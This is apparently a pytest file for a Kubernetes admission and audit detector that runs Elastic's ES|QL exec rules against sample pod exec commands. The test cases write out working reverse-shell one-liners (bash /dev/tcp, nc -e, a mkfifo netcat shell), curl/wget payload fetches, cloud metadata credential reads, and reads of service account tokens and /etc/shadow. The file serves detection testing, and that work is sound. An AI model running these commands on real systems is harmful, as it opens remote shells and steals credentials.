"""Elastic's twelve Kubernetes ES|QL rules (../shared/corpus, read at test time): every one
parses and compiles; the per-event exec rules decide exec requests as Elastic's query does."""
from __future__ import annotations

import csv
import functools
import tomllib
from datetime import datetime, timezone
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from gatewatch.documents import document_from_admission_review, document_from_audit_event
from gatewatch.esql import compile_esql, parse
from gatewatch.rules.elastic_import import import_elastic_rules
from test_esql_admission import CORPUS, EXEC_RULES

pytestmark = pytest.mark.skipif(not (CORPUS / "INDEX.tsv").is_file(), reason=f"no Elastic rule corpus in {CORPUS}")


def esql_files() -> list[Path]:
    if not (CORPUS / "INDEX.tsv").is_file():
        return []
    with open(CORPUS / "INDEX.tsv", newline="") as index:
        names = {row["filename"] for row in csv.DictReader(index, delimiter="\t") if row["rule_language"] == "esql"}
    return [CORPUS / name for name in sorted(names)]


def query_of(path: Path) -> str:
    return tomllib.loads(path.read_text())["rule"]["query"]


def test_the_corpus_has_twelve_esql_rules():
    assert len(esql_files()) == 12


@pytest.mark.parametrize("path", esql_files(), ids=lambda path: path.stem)
def test_every_esql_rule_parses_and_compiles(path: Path):
    tree = parse(query_of(path))
    compiled = compile_esql(tree)
    assert compiled.aggregates == tree.has_stats
    assert compiled.fields  # it reads the document


def test_five_rules_aggregate_and_seven_run_per_event():
    kinds = [compile_esql(query_of(path)).aggregates for path in esql_files()]
    assert kinds.count(True) == 5 and kinds.count(False) == 7


def test_the_four_exec_rules_import_and_stats_rules_import_for_replay_only():
    result = import_elastic_rules([CORPUS / name for name in EXEC_RULES])
    assert not result.failures and len(result.rule_ids) == 4
    stats = [path for path in esql_files() if parse(query_of(path)).has_stats]
    imported = import_elastic_rules(stats)
    replay_only = {Path(path).name for path, warning in imported.warnings if "replay only" in warning}
    # Every one imports: ATT&CK metadata never fails a rule (T1530 is in the whole matrix, a wrong
    # reference URL is a warning), and the query never does.
    assert imported.failures == []
    assert len(replay_only) == len(stats) == 5


def review(command: list[str]) -> dict:
    return {"apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview", "request": {
        "uid": "u-1", "operation": "CONNECT", "name": "web", "namespace": "prod",
        "kind": {"group": "", "version": "v1", "kind": "PodExecOptions"},
        "resource": {"group": "", "version": "v1", "resource": "pods"}, "subResource": "exec",
        "requestKind": {"group": "", "version": "v1", "kind": "PodExecOptions"},
        "requestResource": {"group": "", "version": "v1", "resource": "pods"}, "requestSubResource": "exec",
        "userInfo": {"username": "alice"}, "dryRun": False,
        "object": {"kind": "PodExecOptions", "apiVersion": "v1", "stdin": True, "stdout": True, "stderr": True,
                   "tty": True, "container": "app", "command": command},
    }}


RULE_FILES = {
    "reverse_shell": "execution_kubernetes_pod_exec_potential_reverse_shell.toml",
    "https_download": "execution_kubernetes_pod_exec_curl_wget_https.toml",
    "metadata": "credential_access_kubernetes_pod_exec_cloud_instance_metadata.toml",
    "sensitive_file": "credential_access_kubernetes_pod_exec_sensitive_file_access.toml",
}


@pytest.fixture(scope="module")
def exec_rules() -> dict:
    return {key: compile_esql(query_of(CORPUS / name)) for key, name in RULE_FILES.items()}


# Cases from the rules' own patterns; "none" means no exec rule matches.
CASES = [
    (["bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"], {"reverse_shell"}),
    (["sh", "-c", "nc -e /bin/sh 203.0.113.7 4444"], {"reverse_shell"}),
    (["python3", "-c", "import socket,os;s=socket.socket();s.connect(('203.0.113.7',4444))"], {"reverse_shell"}),
    (["sh", "-c", "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.7 4444 > /tmp/f"],
     {"reverse_shell"}),
    (["bash", "-c", "echo ok > /dev/tcp/127.0.0.1/8080"], set()),  # a local health check
    (["bash", "-c", "echo ok > /dev/tcp/localhost/443"], set()),
    # Lucene reads "0>&1" as an intersection: on its own it matches nothing (as in Elasticsearch).
    (["sh", "-c", "exec 3<>/dev/null 0>&1"], set()),
    (["curl", "-sSL", "https://203.0.113.9/install.sh"], {"https_download"}),
    (["wget", "https://203.0.113.9/x"], {"https_download"}),
    (["curl", "-k", "https://kubernetes.default.svc/healthz"], set()),
    (["curl", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"], {"metadata"}),
    (["curl", "-H", "Metadata-Flavor: Google", "http://metadata.google.internal/computeMetadata/v1/"],
     {"metadata"}),
    (["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"], {"sensitive_file"}),
    (["cat", "/etc/shadow"], {"sensitive_file"}),
    (["cat", "/etc/resolv.conf"], set()),
    (["ls", "-la"], set()),
    (["sh"], set()),
]


@pytest.mark.parametrize("command, expected", CASES, ids=[" ".join(c)[:40] for c, _ in CASES])
def test_exec_rules_at_admission(exec_rules: dict, command: list[str], expected: set[str]):
    document = document_from_admission_review(review(command), now=datetime(2026, 5, 1, tzinfo=timezone.utc))
    assert {key for key, rule in exec_rules.items() if rule(document)} == expected


def test_the_same_rules_read_an_audit_event_of_kubectl_exec(exec_rules: dict):
    # kubectl >= 1.31 execs over a websocket: the audit log has verb get and the query kubectl sent.
    event = {
        "kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Metadata", "auditID": "a-1",
        "stage": "ResponseStarted", "verb": "get",
        "requestURI": "/api/v1/namespaces/prod/pods/web/exec?command=bash&command=-c&command=bash+-i+%3E%26+"
                      "%2Fdev%2Ftcp%2F203.0.113.7%2F4444+0%3E%261&container=app&stdin=true&stdout=true&tty=true",
        "user": {"username": "alice"}, "sourceIPs": ["198.51.100.4"],
        "objectRef": {"resource": "pods", "namespace": "prod", "name": "web", "apiVersion": "v1",
                      "subresource": "exec"},
        "requestReceivedTimestamp": "2026-05-01T00:00:00.000000Z", "stageTimestamp": "2026-05-01T00:00:00.100000Z",
    }
    document = document_from_audit_event(event)
    assert {key for key, rule in exec_rules.items() if rule(document)} == {"reverse_shell"}
    (row,) = exec_rules["reverse_shell"].rows_for(document)
    assert exec_rules["reverse_shell"].columns(row)["Esql.executed_command"] == (
        "bash -c bash -i >  /dev/tcp/203.0.113.7/4444 0> 1")


def test_every_pattern_of_the_exec_rules_runs_in_linear_time_on_re2(exec_rules: dict):
    # The exec command is the requester's text: a backtracking engine could be made to spin on it.
    from gatewatch.esql import ast
    from gatewatch.esql.grok import compile_grok
    from gatewatch.esql.javaregex import java_literal, java_regex
    from gatewatch.esql.lucene import lucene_regex_text
    from gatewatch.esql.regex import compile_regex, is_linear

    def expressions(node):
        if isinstance(node, tuple):
            for item in node:
                yield from expressions(item)
        elif hasattr(node, "__dataclass_fields__"):
            yield node
            for name in node.__dataclass_fields__:
                yield from expressions(getattr(node, name))

    checked = 0
    for rule in exec_rules.values():
        for node in expressions(rule.ast.commands):
            if isinstance(node, ast.Like) and node.regex:
                assert all(is_linear(compile_regex(lucene_regex_text(p), dotall=True)) for p in node.patterns)
                checked += 1
            elif isinstance(node, ast.Grok):
                assert is_linear(compile_grok(node.patterns[0]).regex)
                checked += 1
            elif isinstance(node, ast.Call) and node.name == "replace":
                pattern = node.args[1].value
                assert java_literal(pattern) is not None or is_linear(java_regex(pattern))
                checked += 1
    assert checked >= 4 * 5


def test_requirements_let_the_rule_index_skip_what_cannot_match(exec_rules: dict):
    from gatewatch.prefilter import RuleIndex

    rules = list(exec_rules)
    index = RuleIndex(rules, [exec_rules[key].requirement for key in rules])
    exec_document = document_from_admission_review(review(["sh"]))
    assert set(index.candidates(exec_document)) == set(rules)
    create_document = {"kubernetes": {"audit": {"objectRef": {"resource": "pods"}, "verb": "create"}}}
    assert index.candidates(create_document) == ()


_JSON = st.recursive(
    st.none() | st.booleans() | st.integers(-2**70, 2**70) | st.floats() | st.text(max_size=40),
    lambda children: st.lists(children, max_size=3) | st.dictionaries(st.text(max_size=8), children, max_size=3),
    max_leaves=12,
)


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(uri=st.text(max_size=200), extra=_JSON, stamp=st.text(max_size=30) | st.just("2026-01-01T00:00:00Z"),
       code=_JSON)
def test_no_document_makes_an_esql_rule_raise(uri, extra, stamp, code):
    document = {"@timestamp": stamp, "source": {"ip": extra}, "user": {"name": extra},
                "event": {"dataset": "kubernetes.audit_logs", "action": "get"},
                "kubernetes": {"audit": {"objectRef": {"subresource": "exec", "resource": "secrets"},
                                         "requestURI": "/exec?command=" + uri, "responseStatus": {"code": code},
                                         "user": {"username": extra}, "verb": "get", "level": "Request",
                                         "requestObject": extra}}}
    for rule in compiled_corpus():
        rule.rows_for(document)


@functools.cache
def compiled_corpus() -> tuple:
    return tuple(compile_esql(query_of(path)) for path in esql_files())
